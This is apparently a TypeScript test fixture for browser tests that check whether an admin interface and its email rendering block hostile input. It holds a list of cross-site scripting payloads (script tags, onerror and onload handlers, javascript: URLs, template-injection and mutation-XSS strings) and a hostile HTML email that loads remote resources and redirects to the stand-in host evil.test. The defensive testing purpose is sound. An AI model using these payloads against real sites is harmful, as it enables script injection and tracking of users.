import type { Page } from 'playwright-core'
import { expect } from 'vitest'

/**
 * What somebody would write into a field who wants it to run in the browser of whoever looks at it. Each sets a mark in
 * the window if it runs, wherever that is, or shows a dialog, or asks another server: all of which tests look for.
 */
const MARK = `(window.top||window).ranHostileScript=1`

export const HOSTILE: readonly string[] = [
  `<script>${MARK}</script>`,
  `"><script>${MARK}</script>`,
  `'><img src=x onerror="${MARK}">`,
  `<img src=https://evil.test/beacon.png>`,
  `<svg onload="${MARK}"><animate onbegin="${MARK}" attributeName=x></svg>`,
  `</textarea></title></style></script><script>${MARK}</script>`,
  `<iframe srcdoc="<script>parent.ranHostileScript=1</script>"></iframe>`,
  `<details open ontoggle="${MARK}">`,
  `<a href="javascript:${MARK}">click</a>`,
  `javascript:${MARK}`,
  `\${${MARK}}{{constructor.constructor('${MARK}')()}}`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${MARK}>`,
  `<template><img src=x onerror="${MARK}"></template>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.test/">`,
  `<base href="https://evil.test/"><link rel=stylesheet href=//evil.test/x.css>`,
  `<style>@import url(https://evil.test/x.css);*{background:url(https://evil.test/y.png)}</style>`,
  `<form action="https://evil.test/"><button autofocus onfocus="${MARK}">x</button></form>`,
  `\u202e<object data="data:text/html,<script>top.ranHostileScript=1</script>"></object>`,
]

/** As a document of its own, with everything an email must not do in it. */
export const HOSTILE_HTML = `<!doctype html><html><head>
  <meta http-equiv="refresh" content="0;url=https://evil.test/"><base href="https://evil.test/">
  <link rel="stylesheet" href="https://evil.test/x.css"><link rel="preconnect" href="https://evil.test">
  <link rel="dns-prefetch" href="//evil.test"><link rel="prefetch" href="https://evil.test/p">
  <style>@import "https://evil.test/i.css"; body { background: url(https://evil.test/b.png) } @font-face { font-family: x; src: url(https://evil.test/f.woff) } p { font-family: x }</style>
  <script src="https://evil.test/s.js"></script></head>
  <body onload="${MARK}" background="https://evil.test/bg.png">
  <p id="said">This much may be seen.</p>
  ${HOSTILE.join('\n')}
  <video src="https://evil.test/v.mp4" autoplay poster="https://evil.test/v.png"></video>
  <picture><source srcset="https://evil.test/s.webp"><img srcset="https://evil.test/1.png 1x"></picture>
  <svg><image href="https://evil.test/svg.png"/><use href="https://evil.test/u.svg#x"/></svg>
  <a id="way-out" href="https://evil.test/out" target="_top">out</a>
</body></html>`

/** Nothing of it ran, nothing is on its way, and we are still where we were. */
export async function expectNothingRan(page: Page, url: string): Promise<void> {
  expect(await page.evaluate('window.ranHostileScript')).toBeUndefined()
  expect(page.url().startsWith(`${url}/admin/`), page.url()).toBe(true)
  expect(page.context().pages()).toHaveLength(1)
}

/** What a browser says when it refuses what we wanted to be refused. */
export const isRefusal = (fault: string): boolean =>
  /^complained: (?:Blocked |Refused |Unsafe attempt to load URL |.*violates the following Content Security Policy|.*sandboxed)/.test(
    fault,
  )
